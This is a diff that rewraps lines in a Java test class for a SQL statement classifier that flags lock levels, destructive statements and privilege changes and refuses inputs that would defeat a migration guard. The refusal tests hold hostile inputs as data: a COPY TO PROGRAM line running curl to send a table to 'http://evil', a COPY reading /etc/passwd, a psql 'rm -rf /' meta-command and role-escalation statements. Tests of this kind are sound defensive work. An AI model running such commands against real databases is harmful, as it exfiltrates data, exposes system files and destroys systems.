@@ -46,21 +46,28 @@ class StatementClassifierTest {
 
     @Test
     void weakerLockFormsOfAlterTableAreKnown() {
-        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT orders_fk;").lock()).isEqualTo(LockMode.SHARE_UPDATE_EXCLUSIVE);
-        assertThat(one("ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers (id) NOT VALID;").lock())
+        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT orders_fk;").lock())
+                .isEqualTo(LockMode.SHARE_UPDATE_EXCLUSIVE);
+        assertThat(one("ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers (id) NOT VALID;")
+                        .lock())
                 .isEqualTo(LockMode.SHARE_ROW_EXCLUSIVE);
         // a weak and a strong subcommand together: the strong lock
-        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT a, ADD COLUMN b int;").lock()).isEqualTo(LockMode.ACCESS_EXCLUSIVE);
+        assertThat(one("ALTER TABLE orders VALIDATE CONSTRAINT a, ADD COLUMN b int;")
+                        .lock())
+                .isEqualTo(LockMode.ACCESS_EXCLUSIVE);
         assertThat(one("CREATE INDEX CONCURRENTLY i ON orders (c);").lock()).isEqualTo(LockMode.SHARE_UPDATE_EXCLUSIVE);
         assertThat(one("CREATE INDEX i ON orders (c);").classes()).contains(DDL, LOCKING);
     }
 
     @Test
     void rowsWrittenAreDmlAndDeletesAreDestructive() {
-        assertThat(one("UPDATE orders SET status = 'x' WHERE id = 1;").classes()).containsExactlyInAnyOrder(DML);
+        assertThat(one("UPDATE orders SET status = 'x' WHERE id = 1;").classes())
+                .containsExactlyInAnyOrder(DML);
         assertThat(one("DELETE FROM orders WHERE id = 1;").classes()).contains(DML, DESTRUCTIVE);
         assertThat(one("TRUNCATE orders;").classes()).contains(DML, DESTRUCTIVE, DATA_LOSS);
-        assertThat(one("WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone;").classes()).contains(DML, DESTRUCTIVE);
+        assertThat(one("WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone;")
+                        .classes())
+                .contains(DML, DESTRUCTIVE);
     }
 
     @Test
@@ -68,30 +75,41 @@ class StatementClassifierTest {
         assertThat(one("GRANT SELECT ON orders TO reporting;").classes()).contains(PRIVILEGE);
         assertThat(one("ALTER TABLE orders OWNER TO app;").classes()).contains(PRIVILEGE, DDL);
         assertThat(one("CREATE ROLE auditor;").classes()).contains(PRIVILEGE);
-        assertThat(one("ALTER TABLE orders ENABLE ROW LEVEL SECURITY;").classes()).contains(PRIVILEGE);
+        assertThat(one("ALTER TABLE orders ENABLE ROW LEVEL SECURITY;").classes())
+                .contains(PRIVILEGE);
     }
 
     @Test
     void codeWhoseEffectIsUnknownCountsAsEverything() {
-        assertThat(one("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$;").classes()).contains(OPAQUE, DDL, DML, DESTRUCTIVE);
-        assertThat(one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity;").classes()).contains(OPAQUE, DESTRUCTIVE);
-        assertThat(one("SELECT count(*) FROM orders WHERE id IN (1, 2);").classes()).isEmpty();
+        assertThat(one("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$;").classes())
+                .contains(OPAQUE, DDL, DML, DESTRUCTIVE);
+        assertThat(one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity;")
+                        .classes())
+                .contains(OPAQUE, DESTRUCTIVE);
+        assertThat(one("SELECT count(*) FROM orders WHERE id IN (1, 2);").classes())
+                .isEmpty();
     }
 
     @Test
     void aTableRewriteIsRecognisedFromTheLintFindings() {
-        assertThat(one("ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2);").classes()).contains(REWRITE, DDL);
+        assertThat(one("ALTER TABLE orders ALTER COLUMN total TYPE numeric(12,2);")
+                        .classes())
+                .contains(REWRITE, DDL);
     }
 
     @Test
     void whatWouldDefeatTheGuardIsRefusedWhateverThePolicySays() {
-        assertThat(classify("CREATE TABLE a (id int); COMMIT; DROP TABLE b;").get(1).refusal()).contains("transaction control");
+        assertThat(classify("CREATE TABLE a (id int); COMMIT; DROP TABLE b;")
+                        .get(1)
+                        .refusal())
+                .contains("transaction control");
         assertThat(one("SET ROLE postgres;").refusal()).contains("role");
         assertThat(one("SET SESSION AUTHORIZATION postgres;").refusal()).isNotNull();
         assertThat(one("RESET ROLE;").refusal()).isNotNull();
         assertThat(one("SET \"session_replication_role\" = replica;").refusal()).contains("session_replication_role");
         assertThat(one("SET standard_conforming_strings = off;").refusal()).isNotNull();
-        assertThat(one("COPY orders TO PROGRAM 'curl -d @- http://evil';").refusal()).contains("program");
+        assertThat(one("COPY orders TO PROGRAM 'curl -d @- http://evil';").refusal())
+                .contains("program");
         assertThat(one("COPY orders FROM '/etc/passwd';").refusal()).contains("server file");
         assertThat(one("\\! rm -rf /\n").refusal()).contains("psql meta-command");
         assertThat(one("SET search_path = app, public;").refusal()).isNull();
@@ -99,7 +117,8 @@ class StatementClassifierTest {
 
     @Test
     void aTimeoutIsNotJudgedByItsWordsButByTheValueItLeaves() {
-        // what lint recommends (SET lock_timeout) must be appliable; the apply refuses a lifted or raised timeout by effect
+        // what lint recommends (SET lock_timeout) must be appliable; the apply refuses a lifted or raised timeout by
+        // effect
         assertThat(one("SET lock_timeout = '2s';").refusal()).isNull();
         assertThat(one("SET LOCAL statement_timeout = 0;").refusal()).isNull();
     }
